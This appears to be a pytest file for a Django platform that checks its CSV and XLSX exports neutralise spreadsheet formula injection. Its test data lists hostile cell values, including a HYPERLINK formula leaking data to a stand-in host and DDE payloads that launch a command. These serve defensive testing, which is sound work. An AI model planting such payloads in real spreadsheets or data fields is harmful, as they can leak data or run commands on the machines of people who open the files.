"""Spreadsheet formula injection: every CSV/XLSX the platform writes neutralises formulas.

Two halves: every export, run with hostile values, comes out inert (CSV and XLSX); and no code outside
``sciencebridge/core/spreadsheets.py`` builds a CSV writer or a tablib/openpyxl sheet itself, so a new
export cannot bypass the escaping.
"""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from sciencebridge.accounts.roles import Role
from sciencebridge.core.spreadsheets import safe_cell, unescape_cell
from sciencebridge.core.testing.factories import UserFactory

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
KEYWORDS = HOSTILE[0]


def _csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(content: bytes) -> list:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    return [c for row in ws.iter_rows() for c in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_inert_csv(content: bytes, must_contain: str):
    cells = _csv_cells(content)
    assert "'" + must_contain in cells, cells
    live = [
        c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)
    ]
    assert live == [], cells


def _assert_inert_xlsx(content: bytes, must_contain: str):
    cells = _xlsx_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all
    assert "'" + must_contain in [c.value for c in cells]
    assert not [
        c.value
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    ]


def test_safe_cell_rules():
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
        assert unescape_cell(safe_cell(value)) == value
    assert safe_cell("plain") == "plain" and safe_cell("'quoted") == "'quoted"
    assert (
        safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    )  # numbers stay numbers


@pytest.mark.django_db
def test_officer_proposal_export_is_inert(world, make_ready_pair, client):
    from sciencebridge.funding.services import proposals as svc

    p = make_ready_pair(title=HOSTILE[1])
    half = p.half("HK")
    svc.update_half(world.hk_lead, half, keywords=KEYWORDS)
    svc.submit_half(world.hk_lead, p.half("HK"))
    client.force_login(world.itc_officer)
    url = reverse("funding:officer_proposals", args=[world.call.code])
    csv_resp = client.get(url + "?format=csv")
    _assert_inert_csv(csv_resp.content, KEYWORDS)
    _assert_inert_csv(csv_resp.content, HOSTILE[1])
    _assert_inert_xlsx(client.get(url + "?format=xlsx").content, KEYWORDS)


@pytest.fixture
def hostile_expert(db):
    from sciencebridge.experts.models import ExpertProfile, ExpertStatus

    return ExpertProfile.objects.create(
        name_en=HOSTILE[3],
        region="HK",
        email="x@example.org",
        keywords=KEYWORDS,
        department=HOSTILE[4],
        status=ExpertStatus.ADMITTED,
    )


@pytest.mark.django_db
def test_expert_export_is_inert_and_round_trips(hostile_expert, client, tmp_path):
    from sciencebridge.experts.models import ExpertProfile
    from sciencebridge.experts.services import importing

    client.force_login(UserFactory(username="sec", roles=[Role.SECRETARIAT]))
    csv_resp = client.get(reverse("experts:export", args=["csv"]))
    _assert_inert_csv(csv_resp.content, KEYWORDS)
    _assert_inert_xlsx(client.get(reverse("experts:export", args=["xlsx"])).content, KEYWORDS)
    # Read back in, the values are the originals (the importer undoes the escaping).
    ExpertProfile.objects.all().delete()
    path = tmp_path / "again.csv"
    path.write_bytes(csv_resp.content)
    rows = dict(importing.read_rows(path))
    assert rows[2]["keywords"] == KEYWORDS and rows[2]["name_en"] == HOSTILE[3]


@pytest.mark.django_db
def test_expert_import_report_is_inert(db, tmp_path):
    from sciencebridge.experts.services import importing

    src = tmp_path / "in.csv"
    src.write_text(
        "name_en,email,region,institution\n"
        + f'"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",bad,XX,none\n',
        encoding="utf-8",
    )
    report = importing.import_experts(src, report_path=tmp_path / "report.csv")
    assert report.rejected == 1
    _assert_inert_csv((tmp_path / "report.csv").read_bytes(), HOSTILE[0])


@pytest.mark.django_db
def test_dashboard_chart_csv_is_inert(client):
    from sciencebridge.cooperation.services import charts

    chart = {"datasets": [{"label": HOSTILE[2]}], "rows": [[HOSTILE[0], -3]]}
    text = charts.to_csv(chart).encode()
    _assert_inert_csv(text, HOSTILE[0])
    assert "-3" in _csv_cells(text)  # a negative number is data, not a formula
    key = next(iter(charts.BUILDERS))
    assert client.get(reverse("cooperation:dashboard_csv", args=[key])).status_code == 200


WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\(|tablib\.Dataset\(|openpyxl\.Workbook\(|\bWorkbook\(\)"
    r"|\.export\(\s*[\"'](csv|xlsx|xls|tsv|ods)[\"']"
)


def test_no_export_bypasses_core_spreadsheets():
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel == "core/spreadsheets.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITERS.search(line):
                offenders.append(f"sciencebridge/{rel}:{n}: {line.strip()}")
    assert offenders == [], (
        "write spreadsheets through sciencebridge.core.spreadsheets:\n" + "\n".join(offenders)
    )
